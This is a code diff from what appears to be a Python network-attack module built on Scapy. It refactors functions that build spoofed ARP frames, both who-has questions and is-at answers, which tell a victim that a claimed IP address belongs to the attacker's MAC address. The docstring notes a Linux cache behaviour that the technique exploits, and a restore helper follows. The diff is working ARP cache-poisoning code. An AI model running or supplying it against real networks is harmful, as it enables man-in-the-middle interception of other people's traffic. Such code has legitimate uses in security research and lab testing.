@@ -21,8 +21,8 @@ _STAMPED = bytes((1, 1, 8, 10))
 """Two NOPs, then the kind and length of the timestamps (RFC 7323, appendix A)."""
 
 
-def arp_claim(attacker: str, victim: tuple[str, str], claimed_ip: str) -> bytes:
-    """Return an ARP question to the victim whose sender is ``claimed_ip`` at the attacker's MAC address (who-has, op 1).
+def arp_claim(attacker: str, victim: tuple[str, str], claimed_ip: str, operation: int = 1) -> bytes:
+    """Return an ARP frame to the victim whose sender is ``claimed_ip`` at the attacker's MAC address.
 
     Linux adds the sender of a question that it has to answer to its cache at once, even if the cache has no entry for it.
 
@@ -30,19 +30,11 @@ def arp_claim(attacker: str, victim: tuple[str, str], claimed_ip: str) -> bytes:
         attacker: attacker's MAC address.
         victim: the victim's IPv4 and MAC address.
         claimed_ip: IPv4 address of the host whose place the attacker takes.
+        operation: 1 for a question (who-has), 2 for the answer to the victim's own (is-at).
     """
     ip, mac = victim
-    return bytes(
-        Ether(src=attacker, dst=mac) / ARP(op=1, hwsrc=attacker, psrc=claimed_ip, hwdst=mac, pdst=ip)
-    )
-
-
-def arp_answer(attacker: str, victim: tuple[str, str], claimed_ip: str) -> bytes:
-    """Return the answer to the victim's question for ``claimed_ip`` with the attacker's MAC address (is-at, op 2)."""
-    ip, mac = victim
-    return bytes(
-        Ether(src=attacker, dst=mac) / ARP(op=2, hwsrc=attacker, psrc=claimed_ip, hwdst=mac, pdst=ip)
-    )
+    arp = ARP(op=operation, hwsrc=attacker, psrc=claimed_ip, hwdst=mac, pdst=ip)
+    return bytes(Ether(src=attacker, dst=mac) / arp)
 
 
 def arp_restore(attacker: str, victim: tuple[str, str], owner: tuple[str, str]) -> bytes:
